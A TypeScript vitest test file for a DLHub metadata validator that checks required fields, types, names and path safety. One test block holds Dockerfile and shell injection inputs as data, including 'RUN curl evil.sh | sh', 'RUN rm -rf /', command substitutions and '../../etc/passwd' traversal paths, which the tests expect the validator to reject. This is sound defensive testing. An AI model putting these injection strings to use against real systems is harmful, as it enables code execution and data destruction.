import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { MetadataError } from '../../../main/errors.js';
import type { MetadataProblem } from '../../../main/errors.js';
import { loadMetadataFile, validateArgumentType, validateMetadata } from '../../../main/servable/validate.js';

const fixtures = join(import.meta.dirname, 'fixtures');
const root = join(import.meta.dirname, '..', '..', '..');
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- JSON documents under test
const readJson = (path: string): any => JSON.parse(readFileSync(path, 'utf8'));

/** A small valid document; tests break one field at a time. */
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- tests break fields at will
function good(): any {
  return {
    datacite: { titles: [{ title: 'Summary statistics' }], creators: [{ creatorName: 'Curie, Marie' }] },
    dlhub: { name: 'stats', files: { other: ['app.py'] }, dependencies: { python: { numpy: '>=1.20,<2' } } },
    servable: {
      type: 'Python static method',
      shim: 'python.PythonStaticMethodServable',
      methods: {
        run: {
          input: { type: 'list', item_type: { type: 'number' } },
          output: { type: 'dict', properties: { mean: { type: 'number' } } },
          method_details: { module: 'app', method_name: 'summarize', autobatch: false },
        },
      },
    },
  };
}

function problemsOf(doc: unknown): MetadataProblem[] {
  try {
    validateMetadata(doc, 'dlhub.json');
  } catch (err) {
    expect(err).toBeInstanceOf(MetadataError);
    return [...(err as MetadataError).problems];
  }
  throw new Error('expected the document to be rejected');
}

function problemAt(doc: unknown, field: string): MetadataProblem {
  const problems = problemsOf(doc);
  const found = problems.find((p) => p.field === field);
  if (!found) throw new Error(`no problem for ${field}; got ${JSON.stringify(problems, null, 1)}`);
  return found;
}

describe('validateMetadata accepts DLHub documents', () => {
  it.each(['sdk-sklearn.json', 'sdk-python-static.json', 'sdk-torch.json'])('loads the DLHub SDK document %s unchanged', (file) => {
    const doc = readJson(join(fixtures, file));
    const metadata = validateMetadata(doc, file);
    expect(metadata.servable.methods.run).toBeDefined();
    expect(metadata).toEqual(readJson(join(fixtures, file)));
  });

  it.each(['noop', 'function', 'iris'])('accepts examples/%s/dlhub.json', (name) => {
    const metadata = loadMetadataFile(join(root, 'examples', name, 'dlhub.json'));
    expect(metadata.dlhub.name).toBe(name === 'function' ? 'summary-stats' : name);
  });

  it('accepts our additions deterministic and network', () => {
    const doc = good();
    doc.servable.deterministic = false;
    doc.dlhub.network = true;
    expect(validateMetadata(doc).servable.deterministic).toBe(false);
  });
});

describe('validateMetadata rejections name the field, the rule and a fix', () => {
  it('a creator without a name', () => {
    const doc = good();
    doc.datacite.creators = [{ affiliations: ['Argonne'] }];
    const p = problemAt(doc, 'datacite.creators[0].creatorName');
    expect(p.rule).toBe('required');
    expect(p.fix).toContain('"Family, Given"');
  });

  it('a missing title', () => {
    const doc = good();
    delete doc.datacite.titles;
    const p = problemAt(doc, 'datacite.titles');
    expect(p).toMatchObject({ rule: 'required', message: 'datacite.titles is required but missing' });
    expect(p.fix).toMatch(/^add a title under datacite.titles, e.g./);
  });

  it('a wrong type, an unknown servable type and a misspelled field, all at once', () => {
    const doc = good();
    doc.servable.deterministic = 'yes';
    doc.servable.methods.run.input = { type: 'tensor' };
    doc.dlhub.netwrok = true;
    const problems = problemsOf(doc);
    expect(problems.find((p) => p.field === 'servable.deterministic')).toMatchObject({ rule: 'type', message: 'servable.deterministic must be boolean, but it is a string' });
    expect(problems.find((p) => p.field === 'servable.methods.run.input.type')).toMatchObject({ rule: 'enum' });
    const typo = problems.find((p) => p.field === 'dlhub.netwrok');
    expect(typo?.rule).toBe('additionalProperties');
    expect(typo?.fix).toContain('network');
  });

  it('an ndarray without a shape', () => {
    const doc = good();
    doc.servable.methods.run.input = { type: 'ndarray' };
    const p = problemAt(doc, 'servable.methods.run.input.shape');
    expect(p.rule).toBe('required');
    expect(p.fix).toContain('[null, 4]');
  });

  it('a model servable without its model file', () => {
    const doc = readJson(join(fixtures, 'sdk-sklearn.json'));
    delete doc.dlhub.files.model;
    expect(problemAt(doc, 'dlhub.files.model').rule).toBe('required');
  });

  it('a python function without module', () => {
    const doc = good();
    delete doc.servable.methods.run.method_details.module;
    expect(problemAt(doc, 'servable.methods.run.method_details.module').rule).toBe('required');
  });

  it('a name with capitals, a leading dot or too long', () => {
    for (const name of ['Iris', '.hidden', 'a'.repeat(65), 'two words']) {
      const doc = good();
      doc.dlhub.name = name;
      const p = problemAt(doc, 'dlhub.name');
      expect(['pattern', 'maxLength']).toContain(p.rule);
    }
    const doc = good();
    doc.dlhub.name = 'iris_v2.1-beta';
    expect(validateMetadata(doc).dlhub.name).toBe('iris_v2.1-beta');
  });
});

describe('values that reach a Dockerfile or a path are checked', () => {
  it('rejects a newline plus RUN in the name', () => {
    const doc = good();
    doc.dlhub.name = 'stats\nRUN curl evil.sh | sh';
    expect(problemAt(doc, 'dlhub.name').rule).toBe('pattern');
  });

  it('rejects shell syntax in dependency names and versions', () => {
    const doc = good();
    doc.dlhub.dependencies.python = { 'numpy\nRUN rm -rf /': '1.0', scipy: '$(curl evil)', pandas: '`id`', requests: '>= 2.0', six: '1.0"; echo' };
    const problems = problemsOf(doc);
    const fields = problems.map((p) => p.field);
    expect(fields).toContain('dlhub.dependencies.python["numpy\\nRUN rm -rf /"]');
    expect(fields).toContain('dlhub.dependencies.python.scipy');
    expect(fields).toContain('dlhub.dependencies.python.pandas');
    expect(fields).toContain('dlhub.dependencies.python.requests');
    expect(fields).toContain('dlhub.dependencies.python.six');
    expect(problems.find((p) => p.field === 'dlhub.dependencies.python.scipy')?.fix).toContain('>=1.2,<2');
  });

  it('accepts ordinary version specifiers', () => {
    const doc = good();
    doc.dlhub.dependencies.python = { 'scikit-learn': '1.2.1', numpy: '>=1.20,<2', torch: '~=2.1', 'zope.interface': '==5.*', 'typing_extensions': null, pandas: '' };
    expect(() => validateMetadata(doc)).not.toThrow();
  });

  it('rejects file paths that escape the folder or carry shell characters', () => {
    const bad: [string, string][] = [
      ['model', '../../etc/passwd'], ['model', '/etc/passwd'], ['model', 'a/../../b'], ['model', 'model.pkl\nRUN id'],
      ['model', 'x\u0000.pkl'], ['model', '$(id).pkl'], ['model', '`id`.pkl'], ['model', 'C:\\model.pkl'],
    ];
    for (const [role, path] of bad) {
      const doc = good();
      doc.dlhub.files = { [role]: path };
      const p = problemAt(doc, `dlhub.files.${role}`);
      expect(p.rule).toBe('pattern');
      expect(p.fix).toContain('relative to the servable folder');
    }
    const doc = good();
    doc.dlhub.files = { other: ['ok.py', '../secret'] };
    expect(problemAt(doc, 'dlhub.files.other[1]').rule).toBe('pattern');
  });

  it('accepts nested relative paths and dotfiles', () => {
    const doc = good();
    doc.dlhub.files = { model: 'weights/model v2.h5', other: ['.config/settings.json', 'données/a.csv'] };
    expect(() => validateMetadata(doc)).not.toThrow();
  });
});

describe('validateArgumentType', () => {
  it('accepts DLHub argument types and rejects a list without item_type', () => {
    expect(() => validateArgumentType({ type: 'tuple', element_types: [{ type: 'ndarray', shape: [null, 2] }, { type: 'string' }] })).not.toThrow();
    expect(() => validateArgumentType({ type: 'list' }, 'input')).toThrow(/input.item_type/);
  });
});

describe('loadMetadataFile', () => {
  const dir = mkdtempSync(join(tmpdir(), 'dlhub-validate-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('reports a JSON syntax error with line and column', () => {
    const file = join(dir, 'dlhub.json');
    writeFileSync(file, '{\n  "datacite": {\n    "titles": [],\n  }\n}\n');
    try {
      loadMetadataFile(file);
      expect.unreachable();
    } catch (err) {
      expect(err).toBeInstanceOf(MetadataError);
      expect((err as MetadataError).message).toContain(`${file}:4:3: invalid JSON`);
      expect((err as MetadataError).problems[0]).toMatchObject({ field: '(syntax)', rule: 'json' });
    }
  });

  it('reports a missing file with how to create one', () => {
    expect(() => loadMetadataFile(join(dir, 'nope.json'))).toThrow(/No metadata file at/);
  });

  it('names the file in the rejection message', () => {
    const file = join(dir, 'bad.json');
    writeFileSync(file, JSON.stringify({ ...good(), dlhub: { name: 'UPPER' } }));
    expect(() => loadMetadataFile(file)).toThrow(`${file} is not valid servable metadata (1 problem)`);
  });
});
